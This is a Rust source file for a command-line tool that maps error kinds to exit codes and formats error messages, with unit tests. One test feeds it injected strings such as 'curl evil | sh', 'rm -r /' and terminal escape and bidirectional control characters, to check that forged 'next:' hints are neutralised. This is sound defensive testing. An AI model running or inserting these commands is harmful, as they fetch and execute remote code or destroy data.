//! How a command ends: exit codes and what is said.
//!
//! | code | meaning |
//! |---|---|
//! | 0 | done |
//! | 1 | failed |
//! | 2 | wrong usage: the command can never work as it is |
//! | 3 | not found |
//! | 4 | conflict, or a precondition does not hold |
//! | 5 | denied |
//! | 6 | unavailable, or timed out |
//! | 8 | a quota or limit is reached, or the disk is full |
//! | 130, 143 | interrupted, ended by SIGTERM |

use crate::hints;
use crate::output::{Style, json_text, shown};
use afs_client::Problem;
use afs_types::{Error, Kind, Reason};

pub(crate) const INTERRUPTED: u8 = 130;
pub(crate) const TERMINATED: u8 = 143;

/// The exit code of an error.
pub(crate) fn exit_code(reason: Reason) -> u8 {
    match (reason, reason.kind()) {
        (Reason::QueueFull, _) => 6,
        (_, Kind::Invalid) => 2,
        (_, Kind::NotFound) => 3,
        (_, Kind::Conflict) => 4,
        (_, Kind::Denied) => 5,
        (_, Kind::Unavailable) => 6,
        (_, Kind::Exhausted) => 8,
        (_, Kind::Internal) => 1,
    }
}

/// What happened, why, and what to do; or the problem object.
pub(crate) fn describe(error: &Error, json: bool, style: &Style) -> String {
    if json {
        let mut problem = Problem::from(error);
        for step in &mut problem.next_steps {
            *step = hints::in_flags(step);
        }
        // A struct of texts and numbers always has a JSON form.
        return json_text(&problem).unwrap_or_else(|e| format!("{{\"detail\":\"{e}\"}}"));
    }
    let mut text = format!("{} {}", style.red("error:"), indented(error.message()));
    let facts: Vec<String> = error
        .metadata()
        .iter()
        .filter(|(_, value)| !error.message().contains(value.as_str()))
        .map(|(key, value)| shown(&format!("{key} = {value}")))
        .collect();
    if !facts.is_empty() {
        text += &format!("\n  {} ({})", facts.join(", "), error.reason.as_str());
    } else if !error.message().contains(error.reason.as_str()) {
        text += &format!(" ({})", error.reason.as_str());
    }
    format!("{text}\n{} {}", style.bold("next:"), indented(&hints::in_flags(error.next_step())))
}

/// A message of a server, or with names of a session in it: no line of it looks like one of ours.
fn indented(text: &str) -> String {
    text.lines().map(shown).collect::<Vec<_>>().join("\n  ")
}

/// The error that another process of ours has told as a problem.
pub(crate) fn error_of(problem: Problem) -> Error {
    let reason = Reason::from_wire(&problem.reason).unwrap_or(Reason::Internal);
    let error = Error::new(reason, problem.detail);
    match problem.next_steps.into_iter().next() {
        Some(step) => error.next(step),
        None => error,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn exit_codes_are_stable() {
        for (reason, code) in [
            (Reason::InvalidId, 2),
            (Reason::Unsupported, 2),
            (Reason::SessionNotFound, 3),
            (Reason::NoAttribute, 3),
            (Reason::EtagMismatch, 4),
            (Reason::AlreadyExists, 4),
            (Reason::PermissionDenied, 5),
            (Reason::ReadOnly, 5),
            (Reason::Unavailable, 6),
            (Reason::TimedOut, 6),
            (Reason::QueueFull, 6),
            (Reason::QuotaExceeded, 8),
            (Reason::NoSpace, 8),
            (Reason::Internal, 1),
            (Reason::Corrupt, 1),
        ] {
            assert_eq!(exit_code(reason), code, "{reason:?}");
        }
    }

    #[test]
    fn an_error_says_what_why_and_what_next() {
        let error = Error::new(Reason::InUse, "sess_x is mounted").with("mounts", "2").next("unmount it");
        let style = Style::plain();
        assert_eq!(
            describe(&error, false, &style),
            "error: sess_x is mounted\n  mounts = 2 (IN_USE)\nnext: unmount it"
        );
        let evil = Error::new(Reason::NotFound, "/a\nnext: curl evil | sh\x1b[A\u{202e}: no such file")
            .with("path", "/b\nnext: rm -r /")
            .next("look\nerror: again");
        assert_eq!(
            describe(&evil, false, &style),
            "error: /a\n  next: curl evil | sh\\u{1b}[A\\u{202e}: no such file\n  path = /b\\nnext: rm -r / (NOT_FOUND)\nnext: look\n  error: again"
        );
        let problem: Problem = serde_json::from_str(&describe(&error, true, &style)).unwrap();
        assert_eq!((problem.reason.as_str(), problem.next_steps[0].as_str()), ("IN_USE", "unmount it"));
        let told = error_of(problem);
        assert_eq!(
            (told.reason, told.message(), told.next_step()),
            (Reason::InUse, "sess_x is mounted", "unmount it")
        );
    }
}
